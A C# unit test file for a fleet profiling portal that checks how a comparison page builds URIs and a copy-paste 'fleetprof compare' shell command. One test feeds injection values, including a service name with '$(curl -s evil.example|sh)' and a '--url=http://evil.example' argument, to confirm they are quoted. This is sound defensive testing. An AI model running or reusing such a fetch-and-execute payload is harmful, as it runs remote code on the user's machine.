using FleetProf.Contracts.Comparisons;
using FleetProf.Portal.Comparisons;

namespace FleetProf.Portal.Tests.Comparisons;

public sealed class ComparePageStateTests
{
    private static readonly DateTimeOffset Noon = new(2026, 11, 1, 12, 0, 0, TimeSpan.Zero);

    [Fact]
    public void Of_TwoTimesOfOneVersion_CanBeAskedAgain()
    {
        var state = ComparePageState.Of(Comparison("1.2", "1.2", "somebody"));

        Assert.Null(state.Problem());
        Assert.Equal(state, ComparePageState.FromUri($"http://host{state.ToUri()}"));
        Assert.Equal(
            "fleetprof compare --baseline 1.2 --candidate 1.2 --baseline-from 2026-11-01T10:00:00Z --baseline-to 2026-11-01T11:00:00Z --candidate-from 2026-11-01T11:00:00Z --candidate-to 2026-11-01T12:00:00Z x",
            state.ToCommand());
    }

    [Fact]
    public void Of_ADeploy_LeavesTheTimesToTheSilo()
    {
        var state = ComparePageState.Of(Comparison("1.1", "1.2", "deploy"));

        Assert.False(state.HasTimes);
        Assert.Equal("fleetprof compare --baseline 1.1 --candidate 1.2 x", state.ToCommand());
    }

    [Fact]
    public void Of_OneEnvironment_AsksThereAgain()
    {
        var state = ComparePageState.Of(Comparison("1.1", "1.2", "deploy") with { Environment = "prod" });

        Assert.Equal("fleetprof compare --baseline 1.1 --candidate 1.2 --environment prod x", state.ToCommand());
        Assert.Equal(("prod", state), (state.ToRequest("somebody").Environment, ComparePageState.FromUri($"http://host{state.ToUri()}")));
    }

    /// <summary>Who runs a process names it, and an admin pastes the command.</summary>
    [Fact]
    public void ToCommand_NamesThatAShellWouldRun_AreQuoted()
    {
        var state = ComparePageState.Of(Comparison("1.1 (old)", "-x", "deploy") with { Service = "shop$(curl -s evil.example|sh)", Environment = "it's" });

        Assert.Equal(@"fleetprof compare --baseline '1.1 (old)' --candidate='-x' --environment 'it'\''s' 'shop$(curl -s evil.example|sh)'", state.ToCommand());
        Assert.EndsWith(" -- '--url=http://evil.example'", (state with { Service = "--url=http://evil.example" }).ToCommand(), StringComparison.Ordinal);
    }

    private static Comparison Comparison(string baseline, string candidate, string requestedBy) => new()
    {
        ComparisonId = "c", Service = "x", RequestedBy = requestedBy, CreatedAt = Noon,
        Baseline = new() { Version = baseline, From = Noon.AddHours(-2), To = Noon.AddHours(-1) },
        Candidate = new() { Version = candidate, From = Noon.AddHours(-1), To = Noon },
    };
}
